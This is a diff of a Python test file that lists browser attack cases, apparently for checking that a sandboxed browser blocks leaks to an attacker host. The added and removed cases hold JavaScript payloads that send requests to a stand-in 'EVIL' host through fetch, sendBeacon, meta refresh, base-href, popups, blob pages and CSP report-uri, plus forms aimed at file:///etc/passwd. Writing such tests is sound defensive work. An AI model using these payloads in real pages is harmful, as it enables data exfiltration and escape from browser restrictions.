@@ -53,13 +53,10 @@ ADDRESSES = [
     press("a script to data", "location = 'data:text/html,x'", tells=_REFUSED),
     press("a form to a page of Chrome", _FORM.format("chrome://settings"), tells=_REFUSED),
     shown("a form to a file, by itself", _FORM.format("file:///etc/passwd"), alone=True),
-    press("a tab with data", "window.open('data:text/html,x')", tells="refuses to open data:text/html,x", alone=True),
-    press("a tab with an address that holds markup", "window.open('/other?a\\n<b')", tells="refuses to open", alone=True),
-    press("a tab with a blob", "window.open(window.URL.createObjectURL(new Blob(['<script>fetch(`EVIL/x`)</scr' + 'ipt>'], {type: 'text/html'})))", alone=True),
+    press("tabs with data, with a blob, and with an address that holds markup", "window.open('data:text/html,x'); window.open('/other?a\\n<b'); window.open(window.URL.createObjectURL(new Blob(['<script>fetch(`EVIL/x`)</scr' + 'ipt>'], {type: 'text/html'})))", tells=("refuses to open data:text/html,x", "refuses to open http://"), alone=True),
     press("a script as an address", "location = \"javascript:fetch('EVIL/x')\""),
     Attack("a server that leads to a file", "<a href='/MARK/to-file'>Go MARK</a>", calls=(("click", {"ref": "{{ref:link Go MARK}}"}), *BACK), tells="a server may not lead to"),
     Attack("a server that leads to the attacker", "<a href='/MARK/to-evil'>Go MARK</a>", calls=(("click", {"ref": "{{ref:link Go MARK}}"}), *BACK), tells=_ELSEWHERE),
-    Attack("a server that leads to data", "<a href='/MARK/to-data'>Go MARK</a>", calls=(("click", {"ref": "{{ref:link Go MARK}}"}), *BACK), tells="a server may not lead to"),
 ]  # fmt: skip
 
 LISTS = [
@@ -95,11 +92,9 @@ LISTS = [
     at_once("a file of subtitles", f"const v = document.createElement('video'); v.innerHTML = '<track default kind=subtitles src=\"EVIL/x.vtt\">'; {_BODY}(v); v.textTracks[0].mode = 'showing'"),
     press("a beacon as the page goes", "addEventListener('pagehide', () => navigator.sendBeacon('EVIL/x')); location = '/next'", calls=(*GO, *BACK)),
     press("a form", _FORM.format("EVIL/x"), tells=_ELSEWHERE),
-    press("a meta element", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0; url=EVIL/x'}))", calls=(*GO, *BACK)),
+    press("a meta element", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0; url=EVIL/x'}))"),
     Attack("a header of the server", "", calls=(("goto", {"url": "SHOP/MARK/refresh"}), *BACK), tells="blocked: 1 request"),
-    press("a base", "document.head.append(Object.assign(document.createElement('base'), {href: 'EVIL/'})); const a = document.createElement('a'); a.href = 'x'; document.body.append(a); a.click()", tells=_ELSEWHERE, calls=(*GO, *BACK)),
-    press("a popup that goes on", "const w = window.open('about:blank'); w.location = 'EVIL/x'", alone=True),
-    press("a popup of a popup", "const w = window.open('/next'); w.onload = () => w.open('EVIL/x'); setTimeout(() => w.fetch('EVIL/y', {mode: 'no-cors'}), 50)", alone=True),
-    press("a popup without an opener", "window.open('EVIL/x', '', 'noopener')", tells=_ELSEWHERE, alone=True),
-    press("reports", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: \"script-src 'self'; report-uri EVIL/x\"})); document.body.append(document.createElement('script'))", calls=(*GO, *BACK)),
+    press("a base", "document.head.append(Object.assign(document.createElement('base'), {href: 'EVIL/'})); const a = document.createElement('a'); a.href = 'x'; document.body.append(a); a.click()", tells=_ELSEWHERE),
+    press("a popup that goes on, and a popup of a popup", "window.open('about:blank').location = 'EVIL/x'; const w = window.open('/next'); w.onload = () => w.open('EVIL/z'); setTimeout(() => w.fetch('EVIL/y', {mode: 'no-cors'}), 50)", alone=True),
+    press("reports", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: \"script-src 'self'; report-uri EVIL/x\"})); document.body.append(document.createElement('script'))"),
 ]  # fmt: skip
